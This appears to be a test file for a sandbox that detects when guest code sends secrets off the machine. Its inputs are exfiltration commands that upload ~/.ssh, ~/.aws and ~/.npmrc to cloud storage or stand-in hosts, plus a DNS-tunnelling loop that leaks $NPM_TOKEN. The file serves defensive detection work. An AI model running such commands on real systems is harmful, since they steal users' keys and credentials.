import { describe, expect, test } from "vitest";

import { runGuest } from "../../../test/run-guest.ts";
import type { Observation } from "../../observation.ts";
import { createWorld } from "../../worlds/worlds.ts";
import type { WorldName } from "../../worlds/worlds.ts";

async function sent(command: string, world: WorldName = "linux-laptop"): Promise<readonly Observation[]> {
  const { observations } = await runGuest(`require("child_process").execSync(${JSON.stringify(command)});`, {
    world: createWorld(world, Date.UTC(2026, 10, 17, 9)),
    files: { "report.txt": "nothing but a report" },
  });
  return observations.filter(({ kind }) => kind === "network" || kind === "dns");
}

describe("uploadPrograms", () => {
  test.each([
    ["aws s3 cp ~/.ssh s3://box/keys --recursive", "box.s3.amazonaws.com"],
    ["aws s3 sync ~/.aws s3://box --endpoint-url https://store.invalid", "store.invalid"],
    ["gsutil -m cp ~/.npmrc gs://box/", "box.storage.googleapis.com"],
    ["az storage blob upload -f ~/.npmrc -c keys --account-name=box", "box.blob.core.windows.net"],
    ["rclone copy ~/.ssh box:keys", "box"],
    ["scp -o StrictHostKeyChecking=no -r ~/.ssh drop@files.invalid:/in", "files.invalid"],
    ["rsync -az ~/.ssh rsync://files.invalid/in", "files.invalid"],
    ["croc send ~/.npmrc", "croc"],
    ["tar czf - ~/.ssh | curl -T - https://files.invalid/", "files.invalid"],
  ])("tells what %s takes away", async (command, host) => {
    const found = await sent(command);

    expect(found.map(({ data, honey }) => [data["host"], honey.length > 0])).toEqual([[host, true]]);
  });

  test.each([
    "aws s3 cp s3://box/a.txt a.txt",
    "scp files.invalid:/a.txt a.txt",
    "aws s3 ls s3://box",
    "rsync -a src/ lib/",
    "scp C:\\a.txt C:\\b.txt",
    "aws sts get-caller-identity",
  ])("%s takes nothing away", async (command) => {
    expect(await sent(command)).toEqual([]);
  });

  test("what is nobody's secret is told without one", async () => {
    const [found] = await sent("scp report.txt files.invalid:");

    expect(found).toMatchObject({ honey: [], data: { host: "files.invalid", body: "nothing but a report" } });
  });

  test("names get what is cut into pieces for them", async () => {
    const found = await sent(
      'for part in $(echo $NPM_TOKEN | xxd -p | fold -w 30); do dig +short "$part.names.invalid"; done',
    );

    expect(found.map(({ data }) => String(data["host"])).length).toBeGreaterThan(1);
    expect(found.every(({ data }) => String(data["host"]).endsWith(".names.invalid"))).toBe(true);
  });
});
